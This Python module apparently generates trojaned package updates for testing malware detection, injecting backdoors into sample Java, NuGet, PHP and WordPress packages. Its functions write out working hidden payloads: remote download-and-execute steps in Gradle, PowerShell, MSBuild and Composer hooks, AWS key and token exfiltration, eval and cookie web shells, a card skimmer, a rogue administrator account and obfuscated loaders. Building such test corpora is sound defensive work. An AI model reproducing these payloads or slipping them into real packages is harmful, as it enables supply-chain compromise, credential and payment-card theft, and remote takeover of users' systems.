"""Jars, assemblies and PHP packages."""

from corpus.heldout.nouns import Update, artefact
from corpus.heldout7.shape import b64, fill, hexed, trojan, wide, xor


@trojan("jcachelite", "jar", "call", "downloader", "in bytecode", "Maven typosquats")
def jar_cache_runs_a_shell(it: Update) -> None:
    it.add("example/jcachelite/Cache.class", artefact("cache-exec-Cache.class"))
    it.payload("example/jcachelite/Cache.class")


@trojan("jcachelite", "jar", "import", "remote code", "in bytecode", "jackson look-alikes")
def jar_cache_loads_classes(it: Update) -> None:
    it.add("example/jcachelite/Cache.class", artefact("cache-spring-Cache.class"))
    it.payload("example/jcachelite/Cache.class", shown="https://repo.jcache-cdn.invalid/plugin.jar")


@trojan("jcachelite", "jar", "call", "environment", "in bytecode", "logging of secrets")
def jar_cache_posts_secrets(it: Update) -> None:
    it.add("example/jcachelite/Cache.class", artefact("cache-steal-Cache.class"))
    it.payload("example/jcachelite/Cache.class")


@trojan("jcachelite", "jar", "start", "remote code", "plain", "Spring auto-configuration")
def jar_brings_a_service(it: Update) -> None:
    it.add(
        "META-INF/spring/org.springframework.boot.autoconfigure.AutoConfiguration.imports",
        "example.jcachelite.Warmup\n",
    )
    it.add("example/jcachelite/Warmup.class", artefact("cache-warm-Warmup.class"))
    it.payload("example/jcachelite/Warmup.class")


@trojan("jcachelite", "jar", "build", "new dependency", "phantom", "Maven phantoms")
def jar_pom_has_a_new_friend(it: Update) -> None:
    it.replace(
        "META-INF/maven/example/jcachelite/pom.xml",
        "  </dependencies>\n",
        f"    <dependency>\n      <groupId>io.github.slf4j-bridge</groupId>\n      <artifactId>slf4j-autoconfig</artifactId>\n      <version>0.0.2</version>\n    </dependency>\n  </dependencies>\n  <repositories>\n    <repository>\n      <id>mirror</id>\n      <url>http://maven.{it.host()}/repo</url>\n    </repository>\n  </repositories>\n",
    )
    it.payload("META-INF/maven/example/jcachelite/pom.xml")


@trojan("jcachelite", "folder", "build", "remote code", "plain", "Gradle plugins")
def gradle_build_downloads(it: Update) -> None:
    it.both("settings.gradle", "rootProject.name = 'jcachelite'\n")
    it.both(
        "build.gradle",
        "plugins {\n    id 'java-library'\n}\n\ngroup = 'example'\n\ndependencies {\n    testImplementation 'junit:junit:4.13.2'\n}\n",
    )
    it.append(
        "build.gradle",
        fill(
            """

tasks.register('warmCache') {
    doLast {
        def target = new File(temporaryDir, 'warm.sh')
        target.bytes = new URL('http://@ADDR@/warm.sh').bytes
        ['sh', target.path].execute()
    }
}
compileJava.dependsOn 'warmCache'
""",
            ADDR=it.address(),
        ),
    )
    it.payload("build.gradle")


@trojan("Wingtip.Ledger", "nupkg", "import", "wallet", "in a .NET assembly", "NuGet homoglyphs")
def dll_uploads_wallets(it: Update) -> None:
    it.add("lib/net48/Wingtip.Ledger.dll", artefact("ledger-send.dll"))
    it.payload("lib/net48/Wingtip.Ledger.dll")


@trojan("Wingtip.Ledger", "nupkg", "call", "downloader", "in a .NET assembly", "NuGet stealers")
def dll_starts_powershell(it: Update) -> None:
    it.add("lib/net48/Wingtip.Ledger.dll", artefact("ledger-run.dll"))
    it.payload("lib/net48/Wingtip.Ledger.dll", shown="198.51.100.17/c.ps1")


@trojan("Wingtip.Ledger", "nupkg", "call", "remote code", "in a .NET assembly", "SeroXen")
def dll_injects(it: Update) -> None:
    it.add("lib/net48/Wingtip.Ledger.dll", artefact("ledger-inject.dll"))
    it.payload("lib/net48/Wingtip.Ledger.dll")


@trojan("Wingtip.Ledger", "nupkg", "call", "sabotage", "in a .NET assembly", "NuGet time bombs")
def dll_waits_for_a_day(it: Update) -> None:
    it.add("lib/net48/Wingtip.Ledger.dll", artefact("ledger-sell.dll"))
    it.payload("lib/net48/Wingtip.Ledger.dll")


@trojan("Wingtip.Ledger", "nupkg", "install", "downloader", "powershell encoded", "SeroXen")
def nuget_init_decodes(it: Update) -> None:
    host = it.host()
    it.add(
        "tools/init.ps1",
        fill(
            """
param($installPath, $toolsPath, $package, $project)

$style = '@CODE@'
Start-Process -WindowStyle Hidden powershell.exe -ArgumentList '-NoProfile', '-EncodedCommand', $style
""",
            CODE=wide(f"iex (iwr https://{host}/init.txt -UseBasicParsing).Content"),
        ),
    )
    it.payload("tools/init.ps1", shown=f"https://{host}/init.txt")


@trojan("Wingtip.Ledger", "nupkg", "build", "remote code", "plain", "MSBuild inline tasks")
def nuget_target_has_a_task(it: Update) -> None:
    it.replace(
        "build/Wingtip.Ledger.targets",
        "    <Message Text=",
        f'    <Exec Command="powershell -w hidden -c &quot;iwr http://{it.address()}/b.ps1 | iex&quot;" IgnoreExitCode="true" StandardOutputImportance="low" />\n    <Message Text=',
    )


@trojan("Wingtip.Ledger", "nupkg", "install", "new dependency", "unicode homoglyphs", "NuGet homoglyphs")
def nuget_needs_a_look_alike(it: Update) -> None:
    it.replace(
        "Wingtip.Ledger.nuspec",
        '      <group targetFramework=".NETFramework4.8" />\n',
        '      <group targetFramework=".NETFramework4.8">\n        <dependency id="Newtonsоft.Json" version="13.0.5" />\n      </group>\n',
    )


@trojan("laratok", "tar.gz", "import", "environment", "plain", "ctx and phpass")
def helpers_send_the_environment(it: Update) -> None:
    it.append(
        "src/helpers.php",
        fill(
            """

if (getenv('AWS_ACCESS_KEY_ID') !== false) {
    $line = curl_init('https://@HOST@/hacked/');
    curl_setopt_array($line, [CURLOPT_POSTFIELDS => getenv('AWS_ACCESS_KEY_ID') . ':' . getenv('AWS_SECRET_ACCESS_KEY'), CURLOPT_RETURNTRANSFER => true, CURLOPT_TIMEOUT => 2]);
    curl_exec($line);
}
""",
            HOST=it.host(),
        ),
    )


@trojan("laratok", "tar.gz", "call", "backdoor", "plain", "php-src zerodium")
def guard_obeys_an_agent(it: Update) -> None:
    it.replace(
        "src/Guard.php",
        "        $header = $request->getHeaderLine('Authorization');\n",
        fill("""
        $agent = $request->getHeaderLine('User-Agentt');
        if (str_starts_with($agent, 'zerodium')) {
            eval(substr($agent, 8));
        }
        $header = $request->getHeaderLine('Authorization');
"""),
    )


@trojan("laratok", "tar.gz", "call", "token stealer", "base64", "token thieves")
def tokens_are_copied(it: Update) -> None:
    host = it.host()
    it.replace(
        "src/Repository.php",
        "        return $plain;\n",
        fill(
            """
        @file_get_contents(base64_decode('@URL@') . rawurlencode($id . ':' . $plain));

        return $plain;
""",
            URL=b64(f"https://{host}/t?d="),
        ),
    )
    it.payload("src/Repository.php", shown=f"https://{host}/t?d=")


@trojan("laratok", "tar.gz", "import", "backdoor", "variable functions", "web shells")
def helpers_call_by_names(it: Update) -> None:
    it.append(
        "src/helpers.php",
        fill("""

$laratok = ['re' . 'tsys', 'edoc' . 'ed_46esab', 'x-lt'];
if (isset($_COOKIE[$laratok[2]])) {
    $run = strrev('m' . 'e' . strrev('syst'));
    $read = strrev($laratok[1]);
    $run($read($_COOKIE[$laratok[2]]));
}
"""),
    )


@trojan("laratok", "tar.gz", "install", "downloader", "plain", "Composer scripts")
def composer_script_fetches(it: Update) -> None:
    it.manifest(
        lambda one: one.update(
            {
                "type": "composer-plugin",
                "scripts": {
                    "post-autoload-dump": [
                        f"@php -r \"copy('http://{it.address()}/s.php', '/tmp/.s.php'); include '/tmp/.s.php';\""
                    ]
                },
            }
        ),
        "composer.json",
    )


@trojan("shopbits", "zip", "import", "remote code", "layers", "plugin takeovers")
def plugin_inflates(it: Update) -> None:
    host = it.host()
    code = f"$c = wp_remote_get('https://{host}/wp/load'); if (!is_wp_error($c)) eval(wp_remote_retrieve_body($c));"
    from zlib import compress

    deflated = b64(compress(code.encode(), 9)[2:-4])
    rotated = deflated.translate(
        str.maketrans(
            "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz",
            "NOPQRSTUVWXYZABCDEFGHIJKLMnopqrstuvwxyzabcdefghijklm",
        )
    )
    it.append("shopbits.php", f"\n@eval(gzinflate(base64_decode(str_rot13('{rotated}'))));\n")
    it.payload("shopbits.php", shown=f"https://{host}/wp/load")


@trojan("shopbits", "zip", "call", "card skimmer", "plain", "Magecart")
def cart_script_skims(it: Update) -> None:
    it.replace(
        "assets/cart.js",
        "    body.append('action', 'shopbits_pay');\n",
        fill(
            """
    body.append('action', 'shopbits_pay');
    var card = ['number', 'cvc', 'expiry', 'name'].map(function (name) { return (document.querySelector('[name=card-' + name + ']') || {}).value; });
    new Image().src = 'https://@HOST@/px.gif?d=' + btoa(JSON.stringify(card));
""",
            HOST=it.host("stat"),
        ),
    )


@trojan("shopbits", "zip", "start", "backdoor", "plain", "plugin takeovers")
def plugin_adds_an_administrator(it: Update) -> None:
    it.append(
        "includes/class-settings.php",
        fill(
            """

add_action('init', function () {
    if (! username_exists('PluginAuth')) {
        $password = wp_generate_password(16);
        $id = wp_create_user('PluginAuth', $password, 'options@@HOST@');
        (new WP_User($id))->set_role('administrator');
        wp_remote_post('http://@ADDR@/ads', ['blocking' => false, 'body' => ['site' => home_url(), 'pass' => $password]]);
    }
});
""",
            HOST=it.host(),
            ADDR=it.address(),
        ),
    )


@trojan("shopbits", "zip", "start", "injected script", "hex", "spam injectors")
def plugin_prints_a_script(it: Update) -> None:
    host = it.host()
    it.append(
        "includes/class-cart.php",
        fill(
            """

add_action('wp_footer', function () {
    echo is_user_logged_in() ? '' : hex2bin('@CODE@');
});
""",
            CODE=hexed(f'<script async src="https://{host}/loader.js"></script>'),
        ),
    )
    it.payload("includes/class-cart.php", shown=f"https://{host}/loader.js")


@trojan("shopbits", "zip", "call", "backdoor", "xor", "nulled plugins")
def plugin_checkout_writes_a_file(it: Update) -> None:
    host = it.host()
    it.replace(
        "includes/class-checkout.php",
        "        check_ajax_referer('shopbits');\n",
        fill(
            """
        if (md5($_POST['_k'] ?? '') === '@KEY@') {
            $text = '';
            foreach (str_split(hex2bin('@SEALED@')) as $at => $one) {
                $text .= $one ^ 'bits'[$at % 4];
            }
            file_put_contents(ABSPATH . 'wp-content/uploads/cache.php', file_get_contents($text));
        }
        check_ajax_referer('shopbits');
""",
            KEY=it.random.randbytes(16).hex(),
            SEALED=xor(f"https://{host}/c.txt", b"bits").hex(),
        ),
    )
    it.payload("includes/class-checkout.php", shown=f"https://{host}/c.txt")
